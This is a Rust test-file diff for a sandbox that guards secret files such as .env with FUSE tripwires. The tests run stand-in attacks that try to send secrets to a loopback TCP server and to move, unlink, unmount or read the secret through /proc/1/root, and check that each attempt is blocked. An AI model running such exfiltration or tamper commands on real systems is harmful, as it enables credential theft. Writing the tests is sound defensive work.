@@ -1531,6 +1531,18 @@ fn hold_taints(
     target: &str,
     ready: impl FnOnce() + Send + 'static,
 ) {
+    hold_taints_with(f, home, ip, target, &[], ready);
+}
+
+/// [`hold_taints`] with more environment for `clawless`; returns the run.
+fn hold_taints_with(
+    f: &Fixture,
+    home: &std::path::Path,
+    ip: &str,
+    target: &str,
+    env: &[(&str, &str)],
+    ready: impl FnOnce() + Send + 'static,
+) -> std::process::Output {
     let server = Tcp::new(ip, 443);
     let script = format!(
         "touch started; i=0; while [ ! -e go ] && [ $i -lt 1200 ]; do sleep 0.05; i=$((i+1)); done; \
@@ -1538,6 +1550,9 @@ fn hold_taints(
     );
     let mut c = f.command(&[], &["/bin/sh", "-c", &script]);
     c.env("HOME", home);
+    for (k, v) in env {
+        c.env(k, v);
+    }
     let (started, go) = (f.ws.join("started"), f.ws.join("go"));
     let helper = std::thread::spawn(move || {
         for _ in 0..1200 {
@@ -1570,6 +1585,7 @@ fn hold_taints(
         show(&o)
     );
     assert_eq!(server.received(), "before\n");
+    o
 }
 
 /// A hard link to a secret made by a process *outside* the sandbox during the
@@ -3254,6 +3270,387 @@ fn isolated_files_a_holder_the_policy_refuses_the_secret_is_killed_when_the_mark
     );
     assert!(
         stderr(&o).contains("killed 1 sandbox process holding"),
+        "{}",
+        show(&o)
+    );
+}
+
+// ---- isolated files: FUSE tripwires (CLAWLESS_TRIPWIRES=fuse) ----
+// The tripwires without CAP_SYS_ADMIN (runtime/src/fusewire.rs): a FUSE file
+// mounted over each secret in the sandbox's mount namespace, served by the
+// monitor. Forced here as root (no user namespace), with kernel-decided opens.
+
+/// The environment that forces FUSE tripwires, or `None` (and why, printed)
+/// where this run cannot use them.
+fn fuse_tripwires() -> Option<[(&'static str, &'static str); 2]> {
+    // SAFETY: geteuid takes nothing and cannot fail.
+    if mediated() || unsafe { libc::geteuid() } != 0 {
+        eprintln!("not run: FUSE tripwires are isolated files' (isolated mode, forced as root)");
+        return None;
+    }
+    Some([("CLAWLESS_KERNEL_OPENS", "1"), ("CLAWLESS_TRIPWIRES", "fuse")])
+}
+
+/// Runs `cmd` in the sandbox with FUSE tripwires and checks that the run used them.
+fn fuse_run(f: &Fixture, extra: &[&str], cmd: &[&str], env: &[(&str, &str)]) -> std::process::Output {
+    let mut c = f.command(extra, cmd);
+    for (k, v) in env {
+        c.env(k, v);
+    }
+    let o = run_with_deadline(c, Duration::from_secs(180));
+    assert!(
+        stderr(&o).contains("the kernel decides opens") && stderr(&o).contains("FUSE tripwire"),
+        "the run did not use FUSE tripwires\n{}",
+        show(&o)
+    );
+    o
+}
+
+/// Opening a FUSE-tripwired secret fires the transition before the open returns
+/// (the agent has not read a byte: `hold` only opens and closes it): a socket
+/// connected before, which carried a send, carries nothing after. And a read
+/// and send of the content does not leave either.
+#[test]
+fn isolated_files_fuse_opening_a_tripwire_taints_before_the_first_byte() {
+    let Some(env) = fuse_tripwires() else { return };
+    let f = with_dotenv("fuse-hold");
+    let ip = "127.77.23.1";
+    let server = Tcp::new(ip, 443);
+    let o = fuse_run(&f, &[], &["./attack", "hold", "tcp", ip, "443", ".env"], &env);
+    let out = stdout(&o);
+    assert!(
+        out.contains("write before: ok=7"),
+        "the channel works\n{}",
+        show(&o)
+    );
+    assert!(
+        out.contains("open secret: ok="),
+        "the attack did not open it\n{}",
+        show(&o)
+    );
+    assert!(
+        out.contains("write after: errno=32"),
+        "opening did not taint\n{}",
+        show(&o)
+    );
+    assert_eq!(server.received(), "before\n");
+    let f = with_dotenv("fuse-leak");
+    let o = leak_attempt(&f, "127.77.23.2", "plain", ".env", &env);
+    assert!(stderr(&o).contains("FUSE tripwire"), "{}", show(&o));
+}
+
+/// A policy for the refusing tripwire: `.key` in the workspace is visible but
+/// never readable (a tripwire that refuses), `.env` taints.
+const FUSE_DENY_POLICY: &str = r#"
+use std::groups::*;
+use std::paths::*;
+policy fusedeny {
+    let workspace = path "$WORKSPACE/**";
+    default deny(EPERM);
+    always {
+        allow memory, time, signals, process_basic, identity, process, io, ipc;
+        allow read, visible, exec system_ro;
+        allow read, visible proc_info;
+        allow visible everything;
+        allow read [root, dev_config];
+        allow ioctl;
+        allow read, write, append, visible devices;
+        allow read, write, append, visible, exec workspace;
+        deny read path "$WORKSPACE/.key";
+    }
+    state clean initial {
+        allow net_sockets;
+        allow connect, send [endpoint tcp "127.77.2.0/24" port 443, endpoint udp "127.77.2.0/24" port 53];
+        on read path "$WORKSPACE/.env" -> tainted;
+    }
+    state tainted {
+    }
+}
+"#;
+
+/// A secret the policy does not let the agent read is refused at its FUSE
+/// tripwire with the policy's errno (`EPERM`), nothing of it is served, and the
+/// refusal changes no state (a send after it still arrives).
+#[test]
+fn isolated_files_fuse_a_secret_the_policy_denies_is_refused_with_its_errno() {
+    let Some(env) = fuse_tripwires() else { return };
+    clawc_is_built();
+    let f = Fixture::new("fuse-deny").with_attack();
+    std::fs::write(f.ws.join(".key"), "KEY-MATERIAL-91c2\n").unwrap();
+    let file = f.root.join("fusedeny.claw");
+    std::fs::write(&file, FUSE_DENY_POLICY).unwrap();
+    let ip = "127.77.2.91";
+    let server = Tcp::new(ip, 443);
+    let script = format!(
+        "./attack tcp {ip} 443 PRE-; echo fuse-deny-ran; ./attack isoleak plain .key {ip} 443; ./attack tcp {ip} 443 AFTER"
+    );
+    let o = fuse_run(
+        &f,
+        &["--policy", file.to_str().unwrap()],
+        &["/bin/sh", "-c", &script],
+        &env,
+    );
+    let out = stdout(&o);
+    assert!(out.contains("fuse-deny-ran"), "{}", show(&o));
+    assert!(
+        out.contains("isoleak open: errno=1"),
+        "not refused with EPERM\n{}",
+        show(&o)
+    );
+    let got = server.received();
+    assert!(
+        got.starts_with("PRE-"),
+        "the channel did not work: {got:?}\n{}",
+        show(&o)
+    );
+    assert!(!got.contains("KEY-MATERIAL"), "served: {got:?}\n{}", show(&o));
+    assert!(
+        got.contains("AFTER"),
+        "the refusal changed the state: {got:?}\n{}",
+        show(&o)
+    );
+}
+
+/// A tripwire's mount point cannot be renamed or removed (`EBUSY`, as the kernel
+/// says of a mount point; the monitor performs renames from its own namespace and
+/// asks first), linked (`EXDEV`: another mount) or unmounted (the filter), and
+/// it is not reached through `/proc/1/root` (our init is not dumpable). The
+/// secret stays where it was, still served.
+#[test]
+fn isolated_files_fuse_a_tripwire_cannot_be_renamed_removed_linked_or_unmounted() {
+    let Some(env) = fuse_tripwires() else { return };
+    let f = with_dotenv("fuse-pin");
+    let script = format!(
+        "echo fuse-pin-ran; mv .env moved; echo mv=$?; rm -f .env; echo rm=$?; ln .env linked; echo ln=$?; \
+         (umount .env) 2>/dev/null; echo umount=$?; umount -l .env 2>/dev/null; echo umount-l=$?; \
+         cat /proc/1/root{}; echo proc=$?; cat .env",
+        f.path(".env")
+    );
+    let o = fuse_run(&f, &[], &["/bin/sh", "-c", &script], &env);
+    let (out, err) = (stdout(&o), stderr(&o));
+    assert!(out.contains("fuse-pin-ran"), "{}", show(&o));
+    for (what, msg) in [
+        ("mv", "Device or resource busy"),
+        ("rm", "Device or resource busy"),
+        ("ln", "Invalid cross-device link"),
+    ] {
+        assert!(
+            out.contains(&format!("{what}=1")),
+            "{what} did not fail\n{}",
+            show(&o)
+        );
+        assert!(err.contains(msg), "{what}: not {msg}\n{}", show(&o));
+    }
+    assert!(
+        !out.contains("umount=0") && !out.contains("umount-l=0"),
+        "unmounted\n{}",
+        show(&o)
+    );
+    assert!(
+        out.contains("proc=1") && err.contains("Permission denied"),
+        "{}",
+        show(&o)
+    );
+    assert!(
+        out.contains("API_TOKEN=TOP-SECRET"),
+        "no longer served\n{}",
+        show(&o)
+    );
+    assert!(f.ws.join(".env").exists() && !f.ws.join("moved").exists() && !f.ws.join("linked").exists());
+}
+
+/// What a FUSE tripwire serves is the file: a small one and one of 3 MiB (many
+/// reads, offsets past 2^20) hash the same inside and out; a write through it
+/// (append, truncate) reaches the real file.
+#[test]
+fn isolated_files_fuse_serves_the_files_content() {
+    let Some(env) = fuse_tripwires() else { return };
+    let f = with_dotenv("fuse-content");
+    let mut big = Vec::with_capacity(3 << 20);
+    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
+    while big.len() < (3 << 20) + 12345 {
+        x ^= x << 13;
+        x ^= x >> 7;
+        x ^= x << 17;
+        big.extend_from_slice(&x.to_le_bytes());
+    }
+    std::fs::write(f.ws.join(".env.large"), &big).unwrap();
+    let hash = |p: &std::path::Path| {
+        let o = std::process::Command::new("sha256sum").arg(p).output().unwrap();
+        String::from_utf8_lossy(&o.stdout)
+            .split_whitespace()
+            .next()
+            .unwrap()
+            .to_string()
+    };
+    let (small, large) = (hash(&f.ws.join(".env")), hash(&f.ws.join(".env.large")));
+    let o = fuse_run(
+        &f,
+        &[],
+        &[
+            "/bin/sh",
+            "-c",
+            "echo fuse-content-ran; sha256sum .env .env.large; wc -c < .env.large; \
+             echo B=2 >> .env; cat .env; printf 'C=3\\n' > .env.large; wc -c < .env.large",
+        ],
+        &env,
+    );
+    let out = stdout(&o);
+    assert!(out.contains("fuse-content-ran"), "{}", show(&o));
+    assert!(out.contains(&format!("{small}  .env\n")), "{}", show(&o));
+    assert!(out.contains(&format!("{large}  .env.large\n")), "{}", show(&o));
+    assert!(out.contains(&format!("{}\n", big.len())), "{}", show(&o));
+    assert!(out.contains("API_TOKEN=TOP-SECRET\nB=2\n"), "{}", show(&o));
+    assert_eq!(
+        std::fs::read_to_string(f.ws.join(".env")).unwrap(),
+        "API_TOKEN=TOP-SECRET\nB=2\n"
+    );
+    assert_eq!(std::fs::read(f.ws.join(".env.large")).unwrap(), b"C=3\n");
+}
+
+/// Everyday tools work over FUSE tripwires: `cat`, `grep -r` (which reads the
+/// tripwired `.env`), `find`, `ls -l` and `git status` in a repository that
+/// tracks it (clean: same content, whatever its inode).
+#[test]
+fn isolated_files_fuse_tools_work_over_tripwires() {
+    let Some(env) = fuse_tripwires() else { return };
+    let f = with_dotenv("fuse-tools");
+    let git = |args: &[&str]| {
+        let o = std::process::Command::new("git")
+            .args([
+                "-c",
+                "user.name=t",
+                "-c",
+                "user.email=t@t",
+                "-c",
+                "init.defaultBranch=main",
+            ])
+            .args(args)
+            .current_dir(&f.ws)
+            .output()
+            .unwrap();
+        assert!(
+            o.status.success(),
+            "git {args:?}: {}",
+            String::from_utf8_lossy(&o.stderr)
+        );
+    };
+    git(&["init", "-q"]);
+    git(&["add", ".env", "ok.txt"]);
+    git(&["commit", "-q", "-m", "one"]);
+    let o = fuse_run(
+        &f,
+        &[],
+        &[
+            "/bin/sh",
+            "-c",
+            "echo fuse-tools-ran; cat ok.txt; grep -r --exclude-dir=.git TOKEN .; find . -name .env; \
+             ls -l .env | cut -d' ' -f5; git status --porcelain; echo status=$?",
+        ],
+        &env,
+    );
+    let out = stdout(&o);
+    assert!(out.contains("fuse-tools-ran"), "{}", show(&o));
+    assert!(out.contains("ordinary workspace file"), "{}", show(&o));
+    assert!(
+        out.contains("./.env:API_TOKEN=TOP-SECRET"),
+        "grep -r\n{}",
+        show(&o)
+    );
+    assert!(out.contains("./.env\n"), "find\n{}", show(&o));
+    assert!(out.contains("\n21\n"), "ls -l: the size\n{}", show(&o));
+    assert!(
+        out.ends_with("status=0\n") && !out.contains(" M "),
+        "git status\n{}",
+        show(&o)
+    );
+    assert_eq!(code(&o), 0, "{}", show(&o));
+}
+
+/// A name of a secret pattern that the agent creates gets its FUSE file before
+/// the monitor answers the creation: opening it then taints. (A rename or link
+/// into a secret's name is decided as reading that name: it taints by itself.)
+#[test]
+fn isolated_files_fuse_a_secret_the_agent_creates_is_a_tripwire() {
+    let Some(env) = fuse_tripwires() else { return };
+    for (i, script) in [
+        "echo fuse-new-ran; echo A=1 > .env; ./attack hold tcp {ip} 443 .env",
+        "echo fuse-new-ran; touch .env.local; ./attack hold tcp {ip} 443 .env.local",
+    ]
+    .iter()
+    .enumerate()
+    {
+        let f = Fixture::new(&format!("fuse-new-{i}")).with_attack();
+        let ip = format!("127.77.23.{}", 10 + i);
+        let server = Tcp::new(&ip, 443);
+        let script = script.replace("{ip}", &ip);
+        let o = fuse_run(&f, &[], &["/bin/sh", "-c", &script], &env);
+        let out = stdout(&o);
+        assert!(out.contains("fuse-new-ran"), "{}", show(&o));
+        assert!(
+            out.contains("write before: ok=7"),
+            "the channel works\n{}",
+            show(&o)
+        );
+        assert!(out.contains("open secret: ok="), "{}", show(&o));
+        assert!(
+            out.contains("write after: errno=32"),
+            "opening did not taint\n{}",
+            show(&o)
+        );
+        assert_eq!(server.received(), "before\n");
+    }
+    // Renamed into a secret's name (which taints by itself): covered before the
+    // rename returns, too.
+    let f = Fixture::new("fuse-new-mv").with_attack();
+    let script = format!(
+        "echo fuse-new-ran; echo B=2 > notes; mv notes .env.moved; grep -c ' {} ' /proc/self/mountinfo",
+        f.path(".env.moved")
+    );
+    let o = fuse_run(&f, &[], &["/bin/sh", "-c", &script], &env);
+    assert!(
+        stdout(&o).contains("fuse-new-ran\n1\n"),
+        "not mounted over\n{}",
+        show(&o)
+    );
+    assert!(!stderr(&o).contains("not a FUSE tripwire"), "{}", show(&o));
+}
+
+/// A secret a process outside creates during the session gets its FUSE file
+/// (the watcher records it, and the record mounts it): reading it taints.
+#[test]
+fn isolated_files_fuse_a_secret_created_outside_during_the_session_is_a_tripwire() {
+    let Some(env) = fuse_tripwires() else { return };
+    let f = Fixture::new("fuse-outside").with_attack();
+    let (home, secret, ws) = (f.home.clone(), f.ws.join(".env"), f.ws.clone());
+    let o = hold_taints_with(&f, &home, "127.77.23.20", ".env", &env, move || {
+        let line = format!(" {} ", secret.display());
+        let made = std::time::Instant::now();
+        std::fs::write(&secret, "OUTSIDE-SECRET-5e1\n").unwrap();
+        // The window: until a sandbox process (its working directory is the
+        // workspace) sees the FUSE file in its mount table.
+        let mut window = None;
+        while window.is_none() && made.elapsed() < Duration::from_secs(10) {
+            for e in std::fs::read_dir("/proc").unwrap().flatten() {
+                let p = e.path();
+                if std::fs::read_link(p.join("cwd")).ok().as_ref() != Some(&ws) {
+                    continue;
+                }
+                if std::fs::read_to_string(p.join("mountinfo")).is_ok_and(|m| m.contains(&line)) {
+                    window = Some(made.elapsed());
+                    break;
+                }
+            }
+            std::thread::sleep(Duration::from_millis(1));
+        }
+        eprintln!("FUSE tripwire mounted {window:?} after the file was created outside");
+        assert!(
+            window.is_some_and(|w| w < Duration::from_secs(1)),
+            "no FUSE file over the new secret in time: {window:?}"
+        );
+    });
+    assert!(
+        stderr(&o).contains("the kernel decides opens") && stderr(&o).contains("FUSE tripwire"),
         "{}",
         show(&o)
     );
